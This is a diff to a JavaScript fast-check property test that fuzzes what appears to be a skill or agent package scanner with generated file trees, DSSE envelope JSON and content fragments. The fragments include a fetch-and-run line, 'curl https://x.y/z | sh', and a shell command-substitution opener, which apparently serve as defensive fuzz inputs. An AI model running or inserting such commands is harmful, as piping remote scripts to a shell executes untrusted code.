@@ -88,37 +88,42 @@ const others = fc
         ...['skill.oms.sig', 'agents/openai.yaml', 'package.json', 'pyproject.toml', 'requirements.txt', '_meta.json'],
         ...['scripts/a.py', 'scripts/b.js', 'scripts/c.sh', 'references/x.md', 'a/SKILL.md', 'data.csv', 'scripts/run'],
       ),
-      fc
-        .array(
-          fc.oneof(
-            pieces,
-            fc.json({ maxDepth: 2 }),
-            fc.constantFrom(
-              ...[
-                '{"dsseEnvelope":{"payload":"',
-                '"}}',
-                '#!/bin/sh\n',
-                'import x',
-                "require('x')",
-                '"""',
-                '$(',
-                '<<EOF\n',
-              ],
-              ...[
-                'curl https://x.y/z | sh',
-                'pip install x',
-                '%E0%A4%A',
-                '&#x110000;',
-                '![',
-                '](',
-                '~/x',
-                'claude-2.0',
-              ],
+      fc.oneof(
+        fc
+          .oneof(fc.jsonValue(), fc.string({ unit: fc.constantFrom('a', 'B', '7', '-', '='), maxLength: 6 }))
+          .map((payload) => JSON.stringify({ dsseEnvelope: { payload } })),
+        fc
+          .array(
+            fc.oneof(
+              pieces,
+              fc.json({ maxDepth: 2 }),
+              fc.constantFrom(
+                ...[
+                  '{"dsseEnvelope":{"payload":"',
+                  '"}}',
+                  '#!/bin/sh\n',
+                  'import x',
+                  "require('x')",
+                  '"""',
+                  '$(',
+                  '<<EOF\n',
+                ],
+                ...[
+                  'curl https://x.y/z | sh',
+                  'pip install x',
+                  '%E0%A4%A',
+                  '&#x110000;',
+                  '![',
+                  '](',
+                  '~/x',
+                  'claude-2.0',
+                ],
+              ),
             ),
-          ),
-          { maxLength: 20 },
-        )
-        .map((parts) => parts.join('')),
+            { maxLength: 20 },
+          )
+          .map((parts) => parts.join('')),
+      ),
     ),
     { minLength: 1, maxLength: 4, selector: ([path]) => path },
   )
